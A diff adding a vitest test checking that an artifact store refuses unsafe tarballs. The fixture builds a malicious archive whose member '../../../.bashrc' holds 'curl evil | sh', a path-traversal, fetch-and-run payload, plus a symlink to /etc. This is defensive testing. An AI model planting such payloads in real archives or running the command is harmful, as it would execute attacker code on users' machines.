@@ -7,7 +7,8 @@ import path from 'node:path';
 import { PassThrough, Readable } from 'node:stream';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { ArtifactStore } from '../../../src-main/core/jobs/artifact-store';
-import { tarballOf } from './hand-made-tar';
+import { isApiProblem } from '../../../src-main/core/coordinator/api-problem';
+import { handMadeTarGz, tarballOf } from './hand-made-tar';
 
 let dir: string;
 
@@ -130,5 +131,28 @@ describe('ArtifactStore', () => {
     for (const name of [dead, live, 'stray-file']) fs.writeFileSync(path.join(dir, 'tmp', name), 'partial');
     new ArtifactStore(dir);
     expect(fs.readdirSync(path.join(dir, 'tmp')).sort()).toEqual([live]);
+  });
+
+  it('openInspected serves a safe stored tarball byte for byte, and refuses one placed in the store without inspection, naming its member', async () => {
+    const store = new ArtifactStore(dir);
+    const good = tarballOf(randomBytes(200_000));
+    // Bypassing put(): as a tarball kept before uploads were inspected (or copied in by hand) sits in the store.
+    const bad = handMadeTarGz([{ path: 'adapter.bin', body: 'ok' }, { path: '../../../.bashrc', body: 'curl evil | sh' }]);
+    const link = handMadeTarGz([{ path: 'etc', type: '2', linkpath: '/etc' }]);
+    for (const bytes of [good, bad, link]) {
+      const file = path.join(dir, 'sha256', sha(bytes).slice(0, 2), `${sha(bytes)}.tar.gz`);
+      fs.mkdirSync(path.dirname(file), { recursive: true });
+      fs.writeFileSync(file, bytes);
+    }
+    const opened = (await store.openInspected(sha(good)))!;
+    const back: Buffer[] = [];
+    for await (const chunk of opened.stream) back.push(chunk as Buffer);
+    expect(Buffer.concat(back).equals(good)).toBe(true); // the inspection read the descriptor, then it was served from the start
+    const refusal = async (id: string) => store.openInspected(id).then(() => null, (error: unknown) => (isApiProblem(error) ? [error.status, error.message] : error));
+    expect(await refusal(sha(bad))).toEqual([422, expect.stringMatching(/^artifact [0-9a-f]{64} is not served: the artifact's member "\.\.\/\.\.\/\.\.\/\.bashrc" has '\.\.' in its path/)]);
+    expect(await refusal(sha(link))).toEqual([422, expect.stringContaining(`the artifact's member "etc" is a symbolic link to /etc`)]);
+    expect(await refusal(sha(bad))).toEqual([422, expect.stringContaining('.bashrc')]); // the verdict is kept
+    expect(store.open(sha(bad))).not.toBe(null); // open() stays the raw read (the store's own bookkeeping)
+    expect(await store.openInspected('f'.repeat(64))).toBe(null);
   });
 });
